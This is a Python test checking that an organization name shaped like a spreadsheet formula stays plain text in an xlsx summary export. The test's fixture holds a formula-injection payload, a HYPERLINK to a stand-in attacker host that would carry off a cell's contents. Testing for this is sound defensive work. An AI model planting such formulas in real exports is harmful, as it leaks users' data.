"""Issue 10 M4: an organization named like a formula stays text in `report summary … --out sum.xlsx` (both sheets)."""

from __future__ import annotations

from pathlib import Path

from services.app import App
from services.results import compute_results
from services.summary_report import write_summary_report
from storage.tables.core import orgs

EVIL = '=HYPERLINK("http://evil.example/?d="&C5,"点击查看详情")'


def test_m4_summary_xlsx_keeps_a_formula_like_name_as_text(sqlite_city: App, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    app = sqlite_city
    with app.db.begin() as conn:
        conn.execute(orgs.update().where(orgs.c.code == "V01").values(name=EVIL))
    compute_results(app.db, year=2014, now=app.now())
    out = tmp_path / "sum.xlsx"
    write_summary_report(app.db, year=2014, organizer="T1", out=out, now=app.now())
    book = load_workbook(out)
    seen = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} became a formula: {cell.value!r}"
                if cell.value == EVIL:
                    seen += 1
                    assert cell.data_type == "s"
    assert seen >= 2, "the name should appear as text on both sheets"
